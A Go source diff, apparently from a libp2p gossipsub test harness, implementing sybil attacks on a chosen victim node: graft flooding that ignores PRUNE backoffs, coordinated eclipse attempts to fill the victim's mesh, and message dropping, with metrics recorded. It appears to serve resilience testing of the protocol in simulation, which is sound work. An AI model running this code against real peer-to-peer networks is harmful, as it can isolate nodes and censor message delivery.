@@ -0,0 +1,282 @@
+package main
+
+import (
+	"bufio"
+	"context"
+	"encoding/binary"
+	"fmt"
+	"io"
+	"sync"
+	"sync/atomic"
+	"time"
+
+	pubsub "github.com/libp2p/go-libp2p-pubsub"
+	pb "github.com/libp2p/go-libp2p-pubsub/pb"
+	"github.com/libp2p/go-libp2p/core/host"
+	lnetwork "github.com/libp2p/go-libp2p/core/network"
+)
+
+// maximum size of an RPC read from the victim
+const sybilMaxRPCSize = 1 << 22
+
+// SybilParams configure the sybil attack. Every attacker creates Identities
+// fresh hosts that speak the gossipsub wire protocol to the victim directly,
+// without running a router.
+type SybilParams struct {
+	// graft_flood keeps sending GRAFTs every GraftInterval, ignoring PRUNEs
+	// and backoffs. eclipse GRAFTs again as soon as the backoff of every
+	// PRUNE expires, trying to fill the victim's mesh. drop_all GRAFTs once.
+	// None of them forwards any message.
+	Strategy      string
+	Victim        int64
+	Identities    int
+	GraftInterval time.Duration
+	Transport     string
+}
+
+func (s SybilParams) enabled() bool {
+	return s.Strategy != ""
+}
+
+func (s SybilParams) validate() error {
+	switch s.Strategy {
+	case "graft_flood", "eclipse", "drop_all":
+	default:
+		return fmt.Errorf("unknown sybil strategy %s", s.Strategy)
+	}
+	if s.Identities <= 0 {
+		return fmt.Errorf("sybil_identities must be positive")
+	}
+	if s.Strategy == "graft_flood" && s.GraftInterval <= 0 {
+		return fmt.Errorf("graft_flood requires a positive t_sybil_graft_interval")
+	}
+	return nil
+}
+
+// sybilStats count the control messages exchanged with the victim
+type sybilStats struct {
+	grafts   int64
+	prunes   int64
+	messages int64
+	// identities in the victim's mesh: grafted and not pruned since
+	inMesh int64
+}
+
+// runSybil attacks the victim from fresh identities during the attack window
+func (p *PubsubNode) runSybil() {
+	params := p.cfg.Sybil
+	w := p.cfg.AttackWindow
+	if !p.waitAttackStart() {
+		return
+	}
+
+	var victim *PeerRegistration
+	for i, pr := range p.discovery.allPeers {
+		if pr.NodeTypeSeq == params.Victim {
+			victim = &p.discovery.allPeers[i]
+		}
+	}
+	if victim == nil {
+		p.log("sybil victim %d not found", params.Victim)
+		return
+	}
+
+	ctx, cancel := context.WithTimeout(p.ctx, w.Duration)
+	defer cancel()
+
+	p.log("sybil attack %s on node %d from %d identities", params.Strategy, params.Victim, params.Identities)
+	var stats sybilStats
+	if p.team != nil {
+		go p.shareSybilMesh(ctx, params.Victim, &stats)
+	}
+	var wg sync.WaitGroup
+	for i := 0; i < params.Identities; i++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			h, err := createHost(ctx, params.Transport, false, nil, nil, nil)
+			if err != nil {
+				p.log("error creating sybil host: %s", err)
+				return
+			}
+			defer h.Close()
+			if err := p.sybilAttack(ctx, h, *victim, &stats); err != nil && ctx.Err() == nil {
+				p.log("sybil identity %s failed: %s", h.ID().Loggable(), err)
+			}
+		}()
+	}
+	wg.Wait()
+
+	p.log("sybil attack over: %d grafts sent, %d prunes and %d messages received", stats.grafts, stats.prunes, stats.messages)
+	p.runenv.R().RecordPoint("sybil_grafts_sent", float64(stats.grafts))
+	p.runenv.R().RecordPoint("sybil_prunes_received", float64(stats.prunes))
+	p.runenv.R().RecordPoint("sybil_messages_dropped", float64(stats.messages))
+}
+
+// sybilAttack connects a sybil identity to the victim and runs the strategy
+// until the context is done
+func (p *PubsubNode) sybilAttack(ctx context.Context, h host.Host, victim PeerRegistration, stats *sybilStats) error {
+	// the victim's router opens its own stream to us, where it sends the
+	// messages and the PRUNEs
+	prunes := make(chan time.Duration, 16)
+	var inMesh int32
+	handler := func(s lnetwork.Stream) {
+		defer s.Reset()
+		readSybilRPCs(s, stats, &inMesh, prunes)
+	}
+	h.SetStreamHandler(pubsub.GossipSubID_v11, handler)
+	h.SetStreamHandler(pubsub.GossipSubID_v10, handler)
+
+	cctx, cancel := context.WithTimeout(ctx, PeerConnectTimeout)
+	defer cancel()
+	if err := h.Connect(cctx, victim.Info); err != nil {
+		return err
+	}
+	s, err := h.NewStream(ctx, victim.Info.ID, pubsub.GossipSubID_v11)
+	if err != nil {
+		return err
+	}
+	defer s.Reset()
+
+	topics := make([]string, 0, len(p.cfg.Topics))
+	subs := make([]*pb.RPC_SubOpts, 0, len(p.cfg.Topics))
+	for _, t := range p.cfg.Topics {
+		id := t.Id
+		subscribe := true
+		topics = append(topics, id)
+		subs = append(subs, &pb.RPC_SubOpts{Subscribe: &subscribe, Topicid: &id})
+	}
+	graft := func() error {
+		ctrl := &pb.ControlMessage{}
+		for i := range topics {
+			ctrl.Graft = append(ctrl.Graft, &pb.ControlGraft{TopicID: &topics[i]})
+		}
+		atomic.AddInt64(&stats.grafts, int64(len(topics)))
+		if atomic.CompareAndSwapInt32(&inMesh, 0, 1) {
+			atomic.AddInt64(&stats.inMesh, 1)
+		}
+		return writeSybilRPC(s, &pb.RPC{Control: ctrl})
+	}
+
+	if err := writeSybilRPC(s, &pb.RPC{Subscriptions: subs}); err != nil {
+		return err
+	}
+	if err := graft(); err != nil {
+		return err
+	}
+
+	switch p.cfg.Sybil.Strategy {
+	case "graft_flood":
+		ticker := time.NewTicker(p.cfg.Sybil.GraftInterval)
+		defer ticker.Stop()
+		for {
+			select {
+			case <-ticker.C:
+				if err := graft(); err != nil {
+					return err
+				}
+			case <-ctx.Done():
+				return nil
+			}
+		}
+	case "eclipse":
+		for {
+			select {
+			case backoff := <-prunes:
+				select {
+				case <-time.After(backoff):
+				case <-ctx.Done():
+					return nil
+				}
+				if p.team != nil && !p.team.waitMeshRoom(ctx, gossipSubParams(p.cfg).D) {
+					return nil
+				}
+				if err := graft(); err != nil {
+					return err
+				}
+			case <-ctx.Done():
+				return nil
+			}
+		}
+	}
+	<-ctx.Done()
+	return nil
+}
+
+func writeSybilRPC(w io.Writer, rpc *pb.RPC) error {
+	data, err := rpc.Marshal()
+	if err != nil {
+		return err
+	}
+	buf := make([]byte, binary.MaxVarintLen64, binary.MaxVarintLen64+len(data))
+	n := binary.PutUvarint(buf, uint64(len(data)))
+	_, err = w.Write(append(buf[:n], data...))
+	return err
+}
+
+// readRPCs reads the RPCs sent by the victim until the stream is closed
+func readRPCs(r io.Reader, handle func(*pb.RPC)) {
+	br := bufio.NewReader(r)
+	for {
+		size, err := binary.ReadUvarint(br)
+		if err != nil || size > sybilMaxRPCSize {
+			return
+		}
+		data := make([]byte, size)
+		if _, err := io.ReadFull(br, data); err != nil {
+			return
+		}
+		var rpc pb.RPC
+		if err := rpc.Unmarshal(data); err != nil {
+			return
+		}
+		handle(&rpc)
+	}
+}
+
+// readSybilRPCs drops the messages sent by the victim, and reports the backoff
+// of every PRUNE received. A PRUNE takes the identity out of the victim's mesh.
+func readSybilRPCs(r io.Reader, stats *sybilStats, inMesh *int32, prunes chan<- time.Duration) {
+	readRPCs(r, func(rpc *pb.RPC) {
+		atomic.AddInt64(&stats.messages, int64(len(rpc.GetPublish())))
+		for _, prune := range rpc.GetControl().GetPrune() {
+			atomic.AddInt64(&stats.prunes, 1)
+			if atomic.CompareAndSwapInt32(inMesh, 1, 0) {
+				atomic.AddInt64(&stats.inMesh, -1)
+			}
+			backoff := time.Duration(prune.GetBackoff()) * time.Second
+			if backoff == 0 {
+				backoff = pubsub.GossipSubPruneBackoff
+			}
+			select {
+			case prunes <- backoff:
+			default:
+			}
+		}
+	})
+}
+
+// shareSybilMesh tells the other attackers how many identities of this
+// attacker are in the victim's mesh whenever it changes, and records the share
+// of the whole team
+func (p *PubsubNode) shareSybilMesh(ctx context.Context, victim int64, stats *sybilStats) {
+	ticker := time.NewTicker(time.Second)
+	defer ticker.Stop()
+	last := int64(-1)
+	var max int64
+	for {
+		select {
+		case <-ticker.C:
+		case <-ctx.Done():
+			p.runenv.R().RecordPoint("attackers_in_victim_mesh", float64(max))
+			return
+		}
+		if n := atomic.LoadInt64(&stats.inMesh); n != last {
+			p.shareVictimMesh(victim, n)
+			last = n
+		}
+		if share := p.team.victimMeshShare(); share > max {
+			max = share
+		}
+	}
+}